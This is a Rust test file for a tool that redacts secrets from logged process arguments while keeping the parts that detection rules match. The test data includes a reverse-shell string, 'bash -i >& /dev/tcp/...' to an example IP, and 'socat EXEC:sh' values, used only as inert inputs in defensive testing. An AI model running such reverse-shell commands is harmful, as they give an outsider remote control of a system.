use super::*;
use crate::config::Evidence;
use proptest::prelude::*;

fn redactor() -> Redactor {
    Redactor::new(Evidence::default().redact)
}

fn args(words: &[&str]) -> Args {
    Args { copied: words.iter().map(|word| word.as_bytes().to_vec()).collect(), ..Args::default() }
}

fn told(words: &[&str], field: Field) -> Vec<String> {
    let args = args(words);
    let told = redactor().args(&args, field).unwrap_or(args);
    told.copied.into_iter().map(|arg| String::from_utf8(arg).unwrap()).collect()
}

#[test]
fn secrets_are_taken_out_and_the_rest_stays() {
    for (given, expected) in [
        (&["mysql", "--password=correct horse"][..], &["mysql", "--password=[redacted]"][..]),
        (&["x", "--PassWord", "s3cret", "-i"], &["x", "--PassWord", "[redacted]", "-i"]),
        (
            &["sh", "-c", "curl -H 'Authorization: Bearer abc.def' https://h/"],
            &["sh", "-c", "curl -H 'Authorization: Bearer [redacted]' https://h/"],
        ),
        (&["curl", "Authorization: Basic Zm9vOmJhcg=="], &["curl", "Authorization: Basic [redacted]"]),
        (
            &["curl", "https://user:p@ss@host/a@b?token=abc&x=1"],
            &["curl", "https://[redacted]@host/a@b?token=[redacted]&x=1"],
        ),
        (&["env", "API_TOKEN=1", "b"], &["env", "API_TOKEN=[redacted]", "b"]),
        (
            &["a", "token=x;bash -i >& /dev/tcp/203.0.113.7/4444"],
            &["a", "token=[redacted];bash -i >& /dev/tcp/203.0.113.7/4444"],
        ),
        (&["a", "password=1 password=2"], &["a", "password=[redacted] password=[redacted]"]),
    ] {
        assert_eq!(told(given, Field::Args), expected);
    }
}

#[test]
fn what_holds_no_secret_is_not_touched() {
    for words in [
        &["bash", "-i"][..],
        &["x", "--password"],
        &["x", "--password="],
        &["x", "token= y"],
        &["https://host/path@x"],
        &["x", "token=[redacted]"],
        &[],
    ] {
        assert_eq!(redactor().args(&args(words), Field::Args), None, "{words:?}");
    }
    assert_eq!(Redactor::default().args(&args(&["--password=x"]), Field::Args), None);
}

#[test]
fn what_a_rule_asks_for_is_never_hidden() {
    assert_eq!(told(&["bash", "--password", "-i"], Field::Args), ["bash", "--password", "-i"]);
    assert_eq!(told(&["bash", "--token", "-L"], Field::Args), ["bash", "--token", "-L"]);
    assert_eq!(told(&["socat", "token=EXEC:sh"], Field::ParentArgs), ["socat", "token=[redacted] exec"]);
    assert_eq!(told(&["socat", "EXEC:x,password=y"], Field::ParentArgs), ["socat", "EXEC:x,password=[redacted]"]);
    // Nor is anything found that was not: a longer argument is not searched.
    let long = format!("exec token={}", "x".repeat(1024));
    assert_eq!(told(&["socat", &long], Field::ParentArgs), ["socat", "[redacted]"]);
}

#[test]
fn patterns_are_refused_that_would_hide_everything() {
    for (text, reason) in [("password", "no *"), ("a*b*", "more than one"), ("*", "two characters"), ("= *", "two")] {
        assert!(Pattern::parse(text).unwrap_err().contains(reason), "{text}");
    }
    assert_eq!(Pattern::parse("Token: *,").unwrap().text(), "token: *,");
}

proptest! {
    #[test]
    fn rules_find_the_same_before_and_after(
        pieces in proptest::collection::vec(
            prop_oneof![
                Just("--password".to_owned()), Just("--password=".to_owned()), Just("-i".to_owned()), Just("exec".to_owned()),
                Just("token=".to_owned()), Just("://".to_owned()), Just("@".to_owned()), "[ -~]{0,8}",
                (1000..1040_usize).prop_map(|n| "x".repeat(n)),
            ],
            0..6,
        ),
        cut in 0..6_usize,
    ) {
        let cut = cut.min(pieces.len());
        let words = [pieces[..cut].concat(), pieces[cut..].concat()];
        let given = Args { copied: words.iter().map(|word| word.as_bytes().to_vec()).collect(), ..Args::default() };
        for field in [Field::Args, Field::ParentArgs] {
            let Some(told) = redactor().args(&given, field) else { continue };
            prop_assert_eq!(told.copied.len(), given.copied.len());
            for (told, given) in told.copied.iter().zip(&given.copied) {
                let holds = |arg: &[u8]| {
                    let (text, _) = readable(arg);
                    asked(field).map(|pattern| searchable(&text) && like(&text, pattern)).collect::<Vec<_>>()
                };
                prop_assert_eq!(holds(told), holds(given));
            }
        }
    }

    #[test]
    fn no_bytes_panic(arguments in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..40), 0..5)) {
        let _ = redactor().args(&Args { copied: arguments, ..Args::default() }, Field::Args);
    }
}
